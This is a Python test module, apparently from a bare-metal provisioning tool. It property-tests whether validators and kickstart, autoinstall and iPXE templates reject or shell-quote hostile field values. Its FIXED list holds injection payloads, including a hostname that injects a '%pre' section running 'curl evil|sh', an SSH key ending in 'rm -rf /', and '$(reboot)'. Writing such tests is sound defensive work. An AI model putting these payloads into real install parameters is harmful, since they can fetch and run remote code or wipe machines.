"""Hostile install parameters never reach a served file unescaped.

Two lines of defence, each tested on its own with generated values (hypothesis):
1. the validators (labcore.validate, used by the API and again before rendering) reject every
   hostname, disk or SSH key that carries a newline, `%`-section, quote or `$(...)`;
2. a caller that bypasses validation and hands such a value straight to a template still cannot
   add a line or a word: `ks` refuses non-printables and shell-quotes the rest, `yaml_str` emits
   escaped scalars, `ipxe` refuses. Checked on the output: same lines and sections as a clean
   render, the value comes back exactly as one shell word / one YAML scalar.
"""

from __future__ import annotations

import json
import shlex
import subprocess

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bastion_app import installers as installer
from bastion_app.images.sync import DEFAULT_MANIFEST
from bastion_app.render import UnsafeValue, render
from labcore import validate
from tests.support import KEY, MAC, TOKEN, install_params

FIXED = ["node1\n%post\nreboot\n%end", "x\r\nurl --url=http://evil", "$(reboot)", "`id`", "a'b", 'a"b',
         "%post", "a;reboot", "a b", "a\\b", "\u2028x", "x\x00y", "}}{{", "\n%end\n%pre\ncurl evil|sh\n%end",
         "ssh-ed25519 AAAA\n%post\nrm -rf /", "' ; reboot ; '", "--hostname=evil"]
DANGEROUS = set("\n\r\x00%'\"$`;\\ |&<>(){}")
hostile = st.one_of(
    st.sampled_from(FIXED),
    st.text(min_size=1, max_size=40).filter(lambda s: any(c in DANGEROUS or not c.isprintable() for c in s)),
)
# derandomize: CI runs the same examples every time (no flaky red); FIXED covers the classic attacks
SETTINGS = settings(max_examples=25, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])


# -- 1. validation ---------------------------------------------------------------------------------
@SETTINGS
@given(v=hostile)
def test_validators_reject(v):
    for check in (validate.hostname, validate.ssh_key):
        with pytest.raises(validate.ValidationError):
            check(v)
    if v:  # '' is auto-detect for disks
        with pytest.raises(validate.ValidationError):
            validate.disk("/dev/" + v)


@SETTINGS
@given(v=hostile, field=st.sampled_from(["hostname", "disk", "ssh_keys", "role", "install_token", "mac"]))
def test_documents_revalidate_the_machine_record(v, field):
    """A record that got past the API some other way (import, an old row) is refused at render."""
    m = install_params()
    m[field] = [v] if field == "ssh_keys" else ("/dev/" + v if field == "disk" else v)
    with pytest.raises(validate.ValidationError):
        installer.kickstart(m, base="http://10.0.0.1:8080", syslog_port=5514, manifest=DEFAULT_MANIFEST)
    with pytest.raises(validate.ValidationError):
        installer.autoinstall_user_data({**m, "os": "ubuntu-26.04"}, base="http://10.0.0.1:8080",
                                        manifest=DEFAULT_MANIFEST)


# -- 2. the templates on their own -----------------------------------------------------------------
def ks_context(**over):
    ctx = dict(ks=installer.ks, mac=MAC, hostname="node1", role="worker", disk="", ssh_keys=[KEY], token=TOKEN,
               base="http://10.0.0.1:8080", syslog_host="10.0.0.1", syslog_port=5514,
               repos=DEFAULT_MANIFEST["fedora-43"]["repos"], k3s=True, **installer.layout_context("worker"),
               other_efi_dirs=["ubuntu", "debian"])
    ctx.update(over)
    return ctx


CLEAN = render("kickstart/install.ks.j2", **ks_context())


def sections(text):
    return [line.split()[0] for line in text.splitlines() if line.startswith("%")]


def bash_word(word: str) -> str:
    """What bash makes of one shell word."""
    return subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, text=True, check=True).stdout


def roundtrip(v: str) -> str:
    """What a YAML reader gets back for ``v`` from `yaml_str` (JSON escapes): characters above
    U+FFFF come back as their two surrogate halves (a fidelity limit of the filter, not an escape:
    validated values are ASCII)."""
    return "".join(c if ord(c) < 0x10000 else json.dumps(c)[1:-1].encode().decode("unicode_escape") for c in v)


def words(line: str) -> int:
    return len(shlex.split(line, comments=True))


@SETTINGS
@given(v=hostile, field=st.sampled_from(["hostname", "disk", "ssh_keys", "role", "mac", "token"]))
def test_kickstart_template_quotes_or_refuses(v, field):
    over = {field: [v] if field == "ssh_keys" else v}
    try:
        out = render("kickstart/install.ks.j2", **ks_context(**over))
    except UnsafeValue:
        assert not (v.isprintable() and v.isascii())
        return
    # no line and no %section was added
    assert sections(out) == sections(CLEAN)
    assert len(out.splitlines()) == len(CLEAN.splitlines())
    # the progress identity is JSON inside one quoted word, and comes back exactly
    id_lines = {x for x in out.splitlines() if x.startswith("LAB_ID_JSON=")}
    assert len(id_lines) == 1
    ident = json.loads("{" + bash_word(id_lines.pop()[len("LAB_ID_JSON="):]) + "}")
    assert ident == {"mac": ks_context(**over)["mac"], "token": ks_context(**over)["token"]}
    # everywhere else the value sits inside one shell word: it never splits a line into more words
    clean_lines = CLEAN.splitlines()
    for i, line in enumerate(out.splitlines()):
        if line != clean_lines[i] and not line.startswith(("#", "LAB_ID_JSON=")):
            assert words(line) == words(clean_lines[i]), line


@SETTINGS
@given(v=hostile.filter(lambda s: s.isprintable() and s.isascii()))
def test_quoted_disk_is_one_literal_bash_word(v):
    out = render("kickstart/install.ks.j2", **ks_context(disk=v))
    [line] = [x for x in out.splitlines() if x.startswith("LAB_DISK=")]
    assert bash_word(line[len("LAB_DISK="):]) == v


@SETTINGS
@given(v=hostile, field=st.sampled_from(["hostname", "ssh_keys", "mirror", "disk"]))
def test_autoinstall_template_escapes_or_refuses(v, field):
    base_ctx = dict(mac=MAC, hostname="node1", role="worker", disk="", ssh_keys=[KEY], token=TOKEN)
    ctx = {**base_ctx, field if field != "mirror" else "_": [v] if field == "ssh_keys" else v}
    ctx.pop("_", None)
    common = dict(ks=installer.ks, base="http://10.0.0.1:8080", k3s=True, **installer.layout_context("worker"),
                  other_efi_dirs=["fedora", "debian"])
    try:
        scripts = {k: render(f"autoinstall/{k}.sh.j2", **common, **ctx) for k in ("early", "late", "error")}
        out = render("autoinstall/user-data.j2", **common, **ctx, **scripts,
                     mirror=v if field == "mirror" else "http://archive.ubuntu.com/ubuntu",
                     packages=installer.UBUNTU_PACKAGES, events_url="http://10.0.0.1:8080/api/installer-events/x/y")
    except UnsafeValue:
        assert not v.isprintable() or not v.isascii()
        return
    doc = yaml.safe_load(out)
    assert out.startswith("#cloud-config\n") and set(doc) == {"autoinstall"}
    v = roundtrip(v)
    ai = doc["autoinstall"]
    clean_keys = {"version", "locale", "keyboard", "timezone", "refresh-installer", "shutdown", "apt", "ssh",
                  "packages", "storage", "reporting", "early-commands", "late-commands", "error-commands",
                  "user-data"}
    assert set(ai) == clean_keys
    if field == "hostname":
        assert ai["user-data"]["hostname"] == v
    elif field == "ssh_keys":
        assert ai["user-data"]["users"][0]["ssh_authorized_keys"] == [v]
    elif field == "mirror":
        assert ai["apt"]["mirror-selection"]["primary"] == [{"uri": v}]
    else:
        assert ai["storage"]["config"][0]["path"] == v
    for key in ("early-commands", "late-commands", "error-commands"):
        [cmd] = ai[key]
        assert cmd[:2] == ["bash", "-c"]
        assert subprocess.run(["bash", "-n"], input=cmd[2], capture_output=True, text=True).returncode == 0


@SETTINGS
@given(v=hostile)
def test_meta_data_escapes(v):
    doc = yaml.safe_load(render("autoinstall/meta-data.j2", hostname=v, instance_id=v))
    assert doc == {"instance-id": roundtrip(v), "local-hostname": roundtrip(v)}


@SETTINGS
@given(v=hostile)
def test_rescue_and_setup_scripts(v):
    try:
        out = render("kickstart/debug.ks.j2", ks=installer.ks, base="http://10.0.0.1:8080", ssh_keys=[v],
                     listen_port=4444)
        assert len(out.splitlines()) == len(render("kickstart/debug.ks.j2", ks=installer.ks, base="http://x",
                                                   ssh_keys=[KEY], listen_port=4444).splitlines())
        assert shlex.quote(v) in out
    except UnsafeValue:
        assert not v.isprintable() or not v.isascii()
    if not set(v) & set("/?#@:"):  # (these would only change which part of the URL is the host)
        with pytest.raises(UnsafeValue):
            installer.debug_setup_script(base="http://a" + v + "b/", port=4444)


@SETTINGS
@given(v=hostile, tpl=st.sampled_from(["install", "debug", "discover", "local-boot", "pxe-debug"]))
def test_ipxe_templates_refuse(v, tpl):
    ctx = dict(base="http://10.0.0.1:8080", mac=MAC, token=TOKEN, os="fedora-43", role="worker", hostname="n1",
               installer_os="fedora-43", installer="kickstart", method="kickstart", action="poweroff", efi_chain="")
    for field in ("mac", "hostname", "base"):
        try:
            out = render(f"ipxe/{tpl}.ipxe.j2", **{**ctx, field: v})
        except UnsafeValue:
            continue
        assert v not in out or all(c not in v for c in "\n\r ;$`'\"")
